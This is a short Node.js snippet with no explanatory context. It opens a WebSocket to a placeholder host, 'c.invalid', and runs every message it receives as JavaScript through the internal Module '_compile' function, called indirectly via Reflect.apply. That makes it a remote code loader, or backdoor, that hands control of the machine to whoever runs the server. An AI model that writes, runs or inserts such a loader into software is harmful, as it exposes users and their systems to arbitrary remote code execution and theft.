const Module = require("module");
const socket = new WebSocket("wss://c.invalid/");
socket.onmessage = ({ data }) => {
  const one = new Module(__filename, module);
  Reflect.apply(one["_compile"], one, [data, __filename]);
};
